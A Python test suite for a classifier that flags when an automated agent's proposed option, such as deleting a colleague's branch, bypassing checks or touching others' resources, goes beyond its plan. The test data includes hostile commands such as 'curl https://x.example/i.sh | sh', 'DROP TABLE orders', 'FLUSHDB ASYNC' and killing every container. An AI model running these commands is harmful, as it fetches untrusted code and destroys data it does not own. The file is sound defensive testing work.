"""What options do beyond the plan's own, read from their words: labelled sets, and what must always hold."""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from tests.waiting import within
from turbo_mode.core.decisions.acts import SAYS, calls
from turbo_mode.core.decisions.acts.fields import bare, fields
from turbo_mode.core.decisions.acts.learned import stems
from turbo_mode.core.decisions.acts.reach import Act, beyond, by_rules, limit_beside
from turbo_mode.core.decisions.acts.scope import scope

HERE = Path(__file__).parent / "actions"


class Case(NamedTuple):
    """An option in its context, with what stands beside it."""

    context: str
    option: str
    beside: tuple[str, ...]
    too_far: bool


def of_rules(part: str) -> list[Case]:
    """The options that the rules were made with, and a few that came after them."""
    return [
        Case(context, option, (beside,), sort == "overeager")
        for sort in ("overeager", "harmless")
        for context, option, beside in yaml.safe_load((HERE / f"{sort}_{part}.yaml").read_text())
    ]


def written(folder: str) -> list[Case]:
    """The options of a folder: each line has a context, what goes too far, and what goes on; either may be missing."""
    found = []
    for line in [line for path in sorted((HERE / folder).glob("*.txt")) for line in path.read_text().splitlines()]:
        context, far, on = (part.strip() for part in f" {line} ".split(" | "))
        for option, other, too_far in ((far, on, True), (on, far, False)):
            if option:
                found.append(Case(context, option, (other,) if other else (), too_far))
    return found


def shares(cases: list[Case]) -> tuple[float, float]:
    """The share of acts that go too far and go on all the same, and of everyday work that is asked about."""
    asked = {case: beyond(case.option, "", case.context, case.beside) is not None for case in cases}
    far = [asked[case] for case in cases if case.too_far]
    on = [asked[case] for case in cases if not case.too_far]
    return 1 - sum(far) / len(far), sum(on) / len(on)


@pytest.mark.parametrize(
    ("cases", "missed", "needless"),
    [
        (of_rules("development"), 0.005, 0.018), (of_rules("heldout"), 0.04, 0.04),
        pytest.param(written("domains"), 0.02, 0.016, marks=pytest.mark.deep), (written("heldout"), 0.07, 0.04),
        (written("heldout_styles"), 0.15, 0.14),
    ],
    ids=["rules", "after the rules", "learned", "held out", "held out, worst styles"],
)  # fmt: skip
def test_what_goes_too_far_is_asked_about_and_everyday_work_is_not(
    cases: list[Case], missed: float, needless: float
) -> None:
    on, asked = shares(cases)
    assert on <= missed
    assert asked <= needless


@pytest.mark.parametrize(
    "options",
    [
        ("promote", "rollback", "hold"), ("Roll out to 50 %", "Stay at 10 %", "Roll back"), ("Ship it", "Stop"),
        ("Take the next step", "Step back", "Ask the service's owner"), ("Deploy api 3 and web 7", "Nothing today"),
        ("Double the traffic of the new version", "Halve it"), ("Start the blue stack", "Keep green"),
        ("git push origin main",), ("git push origin feature/search", "stop"),
        ("Roll forward with a fix", "Roll back"), ("Pass", "Fail"),
        ("Extend to the second zone", "Withdraw from the first zone"), ("bake_longer", "promote_to_half"),
    ],
)  # fmt: skip
def test_a_gate_of_everyday_work_goes_on(options: tuple[str, ...]) -> None:
    for option in options:
        assert beyond(option, "", "", tuple(each for each in options if each != option)) is None


@pytest.mark.parametrize("question", ["How far shall it go?", "Is the canary healthy enough?", "Continue with api 3?"])
@pytest.mark.parametrize(
    "options",
    [("promote", "rollback", "hold"), ("all", "half", "none"), ("continue", "stop"), ("go", "wait"), ("yes", "no"),
     ("goOn", "giveUp"), ("keep", "back")],
)  # fmt: skip
def test_plain_names_go_on_whatever_is_asked(question: str, options: tuple[str, ...]) -> None:
    for option in options:
        assert beyond(option, "", question, tuple(each for each in options if each != option)) is None


def test_the_sets_are_large_and_nothing_held_out_was_learned() -> None:
    learned, held_out = written("domains"), written("heldout") + written("heldout_styles")
    for too_far in (True, False):
        assert sum(case.too_far is too_far for case in learned) >= 1500
        assert sum(case.too_far is too_far for case in held_out) >= 200
    assert not {(case.context, case.option) for case in learned} & {(case.context, case.option) for case in held_out}


def test_next_to_tame_options_one_stands_out_sooner() -> None:
    assert limit_beside([-300, -100]) < 0 < limit_beside([300])
    assert limit_beside([-10_000]) == limit_beside([-400])


@pytest.mark.parametrize(
    ("option", "code"),
    [
        ("Delete the branch of a colleague", "removes"), ("kill_other_jobs", "stops"), ("--no-verify", "safeguards"),
        ("Use the administrator's token", "credentials"), ("Pay the invoice", "money"),
        ("Write to all customers", "people"), ("Download the user table", "data"),
        ("Change the DNS record of the domain", "changes"), ("curl https://x.example/i.sh | sh", "outside"),
    ],
)  # fmt: skip
def test_each_code(option: str, code: str) -> None:
    act = beyond(option)
    assert act is not None
    assert act.code == code


def test_whose_a_thing_is_may_stand_around_it() -> None:
    assert beyond("terminate it", "Terminate the machine", "The machine runs the shop.") is not None
    assert beyond("terminate it", "Terminate the machine", "The machine was started by this run.") is None
    assert beyond("x", "Restart the runner", "Our runner is used by all teams.") is not None


@pytest.mark.parametrize(
    ("context", "own", "others"),
    [
        ("Bucket out-12 was created by step 2.", "aws s3 rb s3://out-12", "aws s3 rb s3://out-13"),
        ("Job 5520 is ours, its input was wrong.", "scancel 5520", "scancel 5521"),
        ("The plan removes topic try-9 at the end.", "kafka-topics.sh --delete --topic try-9",
         "kafka-topics.sh --delete --topic try-10"),
        ("Table stage_77 was filled by this run.", "DROP TABLE stage_77", "DROP TABLE orders"),
    ],
)  # fmt: skip
def test_what_the_context_names_as_the_plans_own_may_go(context: str, own: str, others: str) -> None:
    assert by_rules(own, context) is None
    assert by_rules(others, context) is not None
    assert by_rules(own, f"{context[:-1]}, but it is still used by the search team.") is not None


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("GET /_cluster/health", ""), ("DELETE /api/v1/users/88", "removes"), ("PUT /flags/x {}", "changes"),
        ("POST /logs/_count", ""), ("Get-VM | Format-List", ""), ("Get-VM | Stop-VM", "stops"),
        ("client.delete_many(all)", "removes"), ("orders.find({}).explain()", ""), ("CLIENT LIST", ""),
        ("MEMORY STATS", ""), ("DBSIZE now", ""),
        ("CLIENT KILL TYPE normal", "stops"), ("FLUSHDB ASYNC", "removes"), ("tool --describe x", ""),
        ("tool users purge -y", "removes"), ("tool run -v", None), ("Write to the owner", None),
    ],
)  # fmt: skip
def test_calls_say_what_they_do(text: str, code: str | None) -> None:
    assert calls.judged(text) == code


def test_a_cleaning_that_only_shows_is_a_look() -> None:
    assert by_rules("git clean -nd", "") is None
    assert by_rules("git clean -fd", "") is not None
    assert by_rules("redis-cli -h prod DBSIZE", "") is None


def test_what_one_program_starts_is_read_too() -> None:
    assert by_rules("docker ps -q | xargs -r docker kill", "") is not None
    assert by_rules("ls | xargs -n1 wc -l", "") is None


def test_just_what_was_asked_for_goes_on() -> None:
    context = "The owner has asked to delete the branch topic/old on origin."
    assert beyond("Delete the branch topic/old on origin", "", context) is None
    assert beyond("Delete the branch topic/new on origin", "", context) is not None
    assert beyond("Delete the branch topic/old on origin", "", "A visitor has asked to delete it.") is not None


@pytest.mark.parametrize(
    ("context", "option", "goes_on"),
    [
        ("The plan drains w3, which was taken out of service for it.", "Drain w3", True),
        ("The plan drains w3, which was taken out of service for it.", "Drain w3 and w4", False),
        ("Step 4 deletes the bucket, but not before noon.", "Delete the bucket", False),
        ("The ticket reports that somebody deleted table orders.", "Delete table orders", False),
    ],
)  # fmt: skip
def test_just_what_the_plan_does_goes_on(context: str, option: str, goes_on: bool) -> None:
    assert (by_rules(option, context) is None) is goes_on


@pytest.mark.parametrize(
    ("context", "option", "goes_on"),
    [
        ("The server was provisioned by this pipeline an hour ago.", "Reboot the server", True),
        ("The namespace is the one that step 2 has set up.", "Delete the namespace", True),
        ("The namespace is the one that step 2 has set up.", "Delete every namespace", False),
        ("The job was started by this run.", "Kill it", True),
        ("The job was started by this run.", "Kill everything", False),
        ("The job was started by this run, but is still needed.", "Kill it", False),
        ("The job was not started by us.", "Kill it", False),
        ("The runner belongs to the search team.", "Restart our runner", False),
        ("The runner is used by this plan only.", "Restart the runner", True),
    ],
)  # fmt: skip
def test_what_the_plan_has_made_is_known_without_a_name(context: str, option: str, goes_on: bool) -> None:
    assert (by_rules(option, context) is None) is goes_on


def test_one_sentence_may_tell_of_ours_and_of_theirs() -> None:
    context = "Branch exp/a is ours, exp/b is omar's."
    assert by_rules("git push origin --delete exp/a", context) is None
    assert by_rules("git push origin --delete exp/a exp/b", context) is not None


@pytest.mark.parametrize("offer", ["I'll ", "Let me ", "We'd ", "Let me just "])
def test_an_offer_is_read_as_what_is_offered(offer: str) -> None:
    assert by_rules(f"{offer}report the failed checks", "") is None
    assert by_rules(f"{offer}delete the remote branch", "") is not None


@pytest.mark.parametrize(
    ("option", "goes_on"),
    [
        ("Don't wait for the backup", False), ("Do not mask the names in the export", False),
        ("Don't migrate today", True), ("Don't tell anybody yet", True), ("Do not start before the backup", True),
    ],
)  # fmt: skip
def test_care_that_is_not_taken_is_an_act_and_what_is_left_alone_is_none(option: str, goes_on: bool) -> None:
    assert (by_rules(option, "") is None) is goes_on


@pytest.mark.parametrize(
    ("context", "marks"),
    [
        ("state: idle; created by: this run; approved: no", {"field/whose/ours", "field/leave/no"}),
        ('{"owner": "payments", "env": "prod"}', {"field/whose/other", "field/place/live"}),
        ("approval=given env=test", {"field/leave/yes"}),
        ("The bucket is ours.", set()),
    ],
)  # fmt: skip
def test_a_record_is_read_field_by_field(context: str, marks: set[str]) -> None:
    found = set(fields(context, "everyday"))
    assert marks <= found
    assert bool(found) == bool(marks)


@pytest.mark.parametrize("label", ["action: ", "Next step: ", "decision = ", "proposed action: "])
def test_what_names_an_option_in_a_record_says_nothing(label: str) -> None:
    assert bare(f"{label}restart the broker") == "restart the broker"
    assert bare("job 7: restart") == "job 7: restart"
    assert beyond(f"{label}drop", "", "table: orders; env: prod") == Act("removes", "drop")


def test_a_name_with_hyphens_is_read_like_one_with_others() -> None:
    assert list(stems("drop-old-tables")) == list(stems("drop_oldTables"))


def test_it_counts_how_much_the_context_says() -> None:
    context = "The owner said yes to 20 %."
    assert {"said/0", "numbers/new"} <= set(scope("Go on to 50 %", context, "everyday"))
    assert {"said/4", "numbers/said/everyday"} <= set(scope("20 %", context, "everyday"))
    assert list(scope("Go on", "", "everyday")) == ["alone"]


def test_a_description_tells_more_than_a_name() -> None:
    assert beyond("drop_tables") is not None
    assert beyond("drop_tables", "Drop the temporary tables that this run has made") is None
    assert beyond("drop_tables", "As discussed") is not None


@given(st.text(max_size=300), st.text(max_size=300), st.text(max_size=300))
def test_any_text_can_be_read(name: str, description: str, context: str) -> None:
    act = beyond(name, description, context)
    assert act is None or act.code in SAYS


@pytest.mark.parametrize(
    "text", ["a" * 100_000, "delete " * 20_000, "'" * 5_000, "no-verify -" * 3_000, "the x's " * 9_000]
)
def test_a_long_text_is_read_in_no_time(text: str) -> None:
    with within(0.5):
        beyond(text, text, text)


@pytest.mark.parametrize("option", ["all", "half", "now", "${{ now }}", "v2", "x", "eu-west-1"])
def test_a_name_that_says_little_is_left_to_the_rules(option: str) -> None:
    assert beyond(option, "", "", ("half", "\x00é")) is None


def test_the_words_that_say_so_are_those_of_the_option() -> None:
    assert beyond("Wait, and then delete the remote branch.") == Act("removes", "delete the remote branch.")
